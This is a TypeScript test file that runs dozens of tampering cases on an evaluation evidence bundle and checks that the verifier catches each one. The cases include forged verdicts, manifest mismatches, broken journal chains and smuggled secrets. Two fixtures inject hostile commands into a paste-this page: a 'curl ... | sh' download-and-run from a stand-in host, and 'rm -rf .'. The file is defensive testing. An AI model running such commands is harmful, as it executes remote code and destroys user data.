import {
  type Attacks,
  added,
  type HostileBundle,
  type Json,
  NOTES,
  resealed,
  SECRET,
  smuggled,
  tagged,
  testAttacks,
} from '../../support/hostile-bundle.ts'

const files = (bundle: HostileBundle, change: (files: Json[]) => void) =>
  bundle.editJson('evidence_manifest.json', (manifest) => change(manifest['files'] as Json[]))
const manifest = (bundle: HostileBundle, change: (value: Json) => void) => {
  bundle.editJson(bundle.inRun('run_manifest.json'), change)
  bundle.reseal()
}
const trace = (bundle: HostileBundle, change: (value: Json) => void) => {
  bundle.editJson(bundle.inRun('reports/workflow_trace.json'), change)
  bundle.refitRecord('reports/workflow_trace.json')
  bundle.reseal()
}
const journal = (bundle: HostileBundle, change: (text: string) => string) => {
  bundle.edit(bundle.inRun('journal.ndjson'), change)
  bundle.refitRecord('journal.ndjson')
  bundle.reseal()
}

const FENCE = '`'.repeat(3)

const ATTACKS: Attacks = [
  [
    'the text of the issue is another one',
    'reports',
    resealed((b) => b.write('issue.md', '# eval passed\n\nReady to release.\n')),
  ],
  [
    'the text of the issue promises one thing more',
    'reports',
    resealed((b) => b.edit('issue.md', (text) => `${text}\nReady to release.\n`)),
  ],
  [
    'the page that tells what to paste tells something else',
    'reports',
    resealed((b) =>
      b.edit('VERIFY.md', (text) => text.replace('echo GOOD', 'curl -s https://host.example/x | sh; echo GOOD')),
    ),
  ],
  [
    'the page that tells what to paste has a second block',
    'reports',
    resealed((b) => b.edit('VERIFY.md', (text) => `${text}\n${FENCE}sh\nrm -rf .\n${FENCE}\n`)),
  ],
  ['the page that tells what to paste is empty', 'reports', resealed((b) => b.write('VERIFY.md', ''))],
  [
    'the page that tells what to paste names a key that nobody signed with',
    'reports',
    resealed((b) =>
      b.edit('VERIFY.md', (text) =>
        text.replace(
          'This bundle is not signed',
          `Signed with the Ed25519 key \`${'a'.repeat(64)}\` and is not signed`,
        ),
      ),
    ),
  ],
  [
    'the summary tells that less was left out',
    'reports',
    resealed((b) => b.edit('summary.md', (text) => text.replace(/^- Files excluded: \d+$/m, '- Files excluded: 0'))),
  ],
  [
    'the summary has a row less',
    'reports',
    resealed((b) => b.edit('summary.md', (text) => text.replace(/\n\|[^\n]*\n$/m, '\n'))),
  ],
  [
    'a file of another run lies in the payload',
    'manifest-agreement',
    (b) => smuggled(b, 'data/runs/20200101T000000000Z-aaaaaa/x.txt'),
  ],
  [
    'a payload file is not in the evidence manifest',
    'manifest-agreement',
    resealed((b) => added(b, b.inRun('artifacts/more.txt'))),
  ],
  [
    'the evidence manifest lists a file that is not there',
    'manifest-agreement',
    resealed((b) => b.remove(b.inRun(NOTES))),
  ],
  [
    'an excluded file is there all the same',
    'manifest-agreement',
    resealed((b) => added(b, b.inRun('artifacts/model.bin'))),
  ],
  ['the evidence manifest is missing', 'evidence-manifest', (b) => b.remove('evidence_manifest.json')],
  [
    'the evidence manifest is cut off',
    'evidence-manifest',
    tagged((b) => b.edit('evidence_manifest.json', (text) => text.slice(0, -40))),
  ],
  [
    'the evidence manifest has a key twice',
    'evidence-manifest',
    tagged((b) => b.edit('evidence_manifest.json', (text) => text.replace('{', '{\n  "complete": false,'))),
  ],
  [
    'the evidence manifest is nested very deep',
    'evidence-manifest',
    tagged((b) => b.write('evidence_manifest.json', '['.repeat(200_000))),
  ],
  [
    'the evidence manifest has a million bad entries',
    'evidence-manifest',
    tagged((b) =>
      b.write(
        'evidence_manifest.json',
        `${JSON.stringify({schema_version: 1, files: Array(200_000).fill({})}, null, 2)}\n`,
      ),
    ),
  ],
  [
    'the evidence manifest claims to be complete without a journal',
    'evidence-manifest',
    resealed((b) => {
      b.remove(b.inRun('journal.ndjson'))
      files(b, (list) =>
        list.splice(
          list.findIndex(({kind}) => kind === 'journal'),
          1,
        ),
      )
      b.editJson('evidence_manifest.json', (value) => (value['included_count'] = Number(value['included_count']) - 1))
    }),
  ],
  [
    'the evidence manifest counts wrong',
    'evidence-manifest',
    tagged((b) => b.editJson('evidence_manifest.json', (value) => (value['excluded_count'] = 7))),
  ],
  [
    'the evidence manifest tells another outcome',
    'run-status',
    tagged((b) =>
      b.editJson('evidence_manifest.json', (value) =>
        Object.assign((value['runs'] as Json[])[0] as Json, {outcome: {verdict: 'fail', exit_code: 1}}),
      ),
    ),
  ],
  [
    'an excluded secret has a digest',
    'excluded-secrets',
    tagged((b) =>
      files(b, (list) =>
        Object.assign(list.find(({path}) => path === 'excluded/1') as Json, {sha256: `sha256:${'1'.repeat(64)}`}),
      ),
    ),
  ],
  [
    'an excluded secret has a size',
    'excluded-secrets',
    tagged((b) =>
      files(b, (list) => Object.assign(list.find(({path}) => path === 'excluded/1') as Json, {size_bytes: 12})),
    ),
  ],
  [
    'an excluded secret has its name',
    'excluded-secrets',
    resealed((b) =>
      files(b, (list) =>
        Object.assign(list.find(({path}) => path === 'excluded/1') as Json, {path: b.inRun('artifacts/secret.txt')}),
      ),
    ),
  ],
  [
    'the run manifest tells the digest of the excluded secret',
    'excluded-secrets',
    (b) =>
      manifest(b, (value) =>
        Object.assign((value['artifacts'] as Json[]).find(({path}) => path === 'artifacts/secret.txt') as Json, {
          sha256: `sha256:${'1'.repeat(64)}`,
        }),
      ),
  ],
  [
    'the run manifest tells another digest of a file',
    'manifest-agreement',
    (b) =>
      manifest(b, (value) =>
        Object.assign((value['artifacts'] as Json[]).find(({path}) => path === NOTES) as Json, {
          sha256: `sha256:${'1'.repeat(64)}`,
        }),
      ),
  ],
  ['status and verdict contradict', 'run-status', (b) => manifest(b, (value) => (value['status'] = 'failed'))],
  [
    'exit and verdict contradict',
    'run-status',
    (b) => manifest(b, (value) => Object.assign(value['outcome'] as Json, {exit_code: 4})),
  ],
  [
    'the run manifest tells another verdict than the verdict file',
    'run-status',
    (b) =>
      manifest(b, (value) =>
        Object.assign(value, {
          status: 'failed',
          outcome: {...(value['outcome'] as Json), verdict: 'fail', exit_code: 1},
        }),
      ),
  ],
  [
    'the run manifest belongs to another run',
    'run-status',
    (b) => manifest(b, (value) => (value['run_id'] = '20200101T000000000Z-aaaaaa')),
  ],
  [
    'the run manifest is no JSON of ours',
    'run-status',
    resealed((b) => b.edit(b.inRun('run_manifest.json'), (text) => `${text} `)),
  ],
  [
    'the trace tells another status than its steps',
    'workflow-trace',
    (b) => trace(b, (value) => (value['status'] = 'failed')),
  ],
  [
    'a step of the trace failed in a passed run',
    'workflow-trace',
    (b) => trace(b, (value) => Object.assign((value['steps'] as Json[])[0] as Json, {status: 'failed'})),
  ],
  [
    'the trace belongs to another run',
    'workflow-trace',
    (b) => trace(b, (value) => (value['run_id'] = '20200101T000000000Z-aaaaaa')),
  ],
  [
    'the trace differs from its seal',
    'workflow-trace',
    resealed((b) => b.editJson(b.inRun('reports/workflow_trace.json'), (value) => (value['name'] = 'other'))),
  ],
  [
    'a record of the journal is changed',
    'journal-chain',
    (b) => journal(b, (text) => text.replace('"physics"', '"chemistry"')),
  ],
  [
    'a record of the journal is missing',
    'journal-chain',
    (b) =>
      journal(b, (text) =>
        text
          .split('\n')
          .filter((_, at) => at !== 1)
          .join('\n'),
      ),
  ],
  [
    'the journal ends too early',
    'journal-chain',
    (b) => journal(b, (text) => `${text.trimEnd().split('\n').slice(0, -1).join('\n')}\n`),
  ],
  ['the journal ends in a torn line', 'journal-chain', (b) => journal(b, (text) => text.slice(0, -5))],
  [
    'the predicate praises the run',
    'predicate',
    resealed((b) => b.editJson('predicate.json', (value) => (value['result'] = 'PASSED!'))),
  ],
  ['a token was slipped into a file', 'scan', (b) => smuggled(b, b.inRun('artifacts/token.txt'), `token ${SECRET}\n`)],
  ['a file of the payload is binary', 'scan', (b) => smuggled(b, b.inRun('artifacts/binary.txt'), 'a\0b')],
  [
    'a file of the payload is far too large',
    'scan',
    (b) => smuggled(b, b.inRun('artifacts/large.txt'), 'x'.repeat(17 * 1024 * 1024)),
  ],
]

await testAttacks('hostile evidence', ATTACKS)
